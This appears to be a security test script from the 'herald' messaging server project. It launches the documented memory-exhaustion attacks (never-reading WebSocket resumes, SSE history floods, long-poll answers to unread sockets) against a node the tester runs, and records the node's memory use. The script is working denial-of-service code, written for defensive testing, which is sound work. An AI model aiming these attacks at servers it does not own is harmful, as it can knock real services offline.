#!/usr/bin/env python3
"""The memory attacks of docs/security.md against a running herald node, as
a hostile anonymous client would make them, one address, default limits:

- resume: sockets that resume a channel of large messages from its start
  and never read;
- sse: SSE sessions that never read, each asked for many history pages;
- poll: one long-poll session whose answers go to sockets that never read.

The node's RSS (/proc/PID/status) is sampled every second: before (the
baseline), during (the peak) and for AFTER seconds after the attackers
closed. Prints one JSON object: baseline, peak and after, in KiB.

    attack-memory.py --url http://127.0.0.1:PORT --pid PID --api-key KEY
"""
import argparse
import base64
import http.client
import json
import os
import socket
import time
import uuid
from urllib.parse import urlparse


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise RuntimeError("no VmRSS")


def tight_socket(host, port):
    """A socket whose receive buffer is small and never read."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.connect((host, port))
    return s


def request(host, port, method, path, body=None, headers=None):
    c = http.client.HTTPConnection(host, port, timeout=30)
    c.request(method, path, body=body, headers=headers or {})
    r = c.getresponse()
    data = r.read()
    c.close()
    return r.status, data


def seed(host, port, key, channel, n, size):
    """Publishes n messages of size bytes through the HTTP API."""
    c = http.client.HTTPConnection(host, port, timeout=30)
    data = "x" * size
    for _ in range(n):
        body = json.dumps({"channel": channel, "id": str(uuid.uuid4()), "data": data})
        c.request("POST", "/api/publish", body=body,
                  headers={"x-api-key": key, "content-type": "application/json"})
        r = c.getresponse()
        r.read()
        if r.status != 200:
            raise RuntimeError(f"publish answered {r.status}")
    c.close()


def ws_text(sock, text):
    """Sends one masked text frame (a client's)."""
    payload = text.encode()
    mask = os.urandom(4)
    head = bytes([0x81])
    n = len(payload)
    if n < 126:
        head += bytes([0x80 | n])
    elif n < 65536:
        head += bytes([0x80 | 126]) + n.to_bytes(2, "big")
    else:
        head += bytes([0x80 | 127]) + n.to_bytes(8, "big")
    masked = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    sock.sendall(head + mask + masked)


def ws_open(host, port):
    s = tight_socket(host, port)
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall((f"GET /ws HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\n"
               f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
               "Sec-WebSocket-Version: 13\r\n\r\n").encode())
    got = b""
    while b"\r\n\r\n" not in got:
        chunk = s.recv(1024)
        if not chunk:
            raise RuntimeError("closed during the handshake")
        got += chunk
    if b" 101 " not in got.split(b"\r\n", 1)[0]:
        raise RuntimeError(got.split(b"\r\n", 1)[0].decode())
    return s


def session_id(sock, path, host):
    sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    got = b""
    deadline = time.time() + 10
    while time.time() < deadline:
        got += sock.recv(4096)
        text = got.decode(errors="replace")
        for marker in ('"id":"', '"session":"'):
            i = text.find(marker)
            if i >= 0:
                rest = text[i + len(marker):]
                end = rest.find('"')
                if end > 0:
                    return rest[:end]
    raise RuntimeError("no session id")


def post(host, port, sid, frame):
    status, _ = request(host, port, "POST", f"/session/{sid}", body=json.dumps(frame),
                        headers={"content-type": "application/json"})
    return status


def history(channel):
    return {"type": "history", "channel": channel, "since_seq": -1, "limit": 1000}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--url", required=True)
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("--api-key", required=True)
    ap.add_argument("--channel", default="chat:big")
    ap.add_argument("--messages", type=int, default=2000)
    ap.add_argument("--size", type=int, default=60_000)
    ap.add_argument("--resumers", type=int, default=5)
    ap.add_argument("--sse", type=int, default=2)
    ap.add_argument("--histories", type=int, default=300)
    ap.add_argument("--polls", type=int, default=40)
    ap.add_argument("--hold", type=int, default=45, help="seconds the attackers stay")
    ap.add_argument("--after", type=int, default=30, help="seconds sampled after they close")
    a = ap.parse_args()
    u = urlparse(a.url)
    host, port = u.hostname, u.port
    seed(host, port, a.api_key, a.channel, a.messages, a.size)
    status, body = request(host, port, "GET", f"/api/channels/{a.channel}/position",
                           headers={"x-api-key": a.api_key})
    epoch = json.loads(body)["position"]["epoch"]
    time.sleep(3)
    baseline = rss_kib(a.pid)
    socks = []
    peak = baseline
    # Resumes of the whole channel, never read.
    for _ in range(a.resumers):
        s = ws_open(host, port)
        ws_text(s, json.dumps({"type": "subscribe", "channel": a.channel,
                               "since": {"seq": -1, "epoch": epoch}}))
        socks.append(s)
    # SSE sessions never read, asked for history pages.
    for _ in range(a.sse):
        s = tight_socket(host, port)
        sid = session_id(s, "/sse?channel=chat:other", host)
        socks.append(s)
        for _ in range(a.histories):
            if post(host, port, sid, history(a.channel)) != 202:
                break
        peak = max(peak, rss_kib(a.pid))
    # One poll session; its answers go to sockets that never read.
    first = socket.create_connection((host, port))
    sid = session_id(first, "/poll?channel=chat:other", host)
    socks.append(first)
    for _ in range(a.polls):
        if any(post(host, port, sid, history(a.channel)) != 202 for _ in range(4)):
            break
        s = tight_socket(host, port)
        s.sendall(f"GET /poll?session={sid} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        socks.append(s)
        peak = max(peak, rss_kib(a.pid))
    start = time.time()
    while time.time() - start < a.hold:
        peak = max(peak, rss_kib(a.pid))
        time.sleep(1)
    for s in socks:
        s.close()
    samples = []
    for _ in range(a.after):
        time.sleep(1)
        samples.append(rss_kib(a.pid))
        peak = max(peak, samples[-1])
    print(json.dumps({"baseline_kib": baseline, "peak_kib": peak, "after_kib": samples[-1],
                      "after_minus_baseline_kib": samples[-1] - baseline}))


if __name__ == "__main__":
    main()
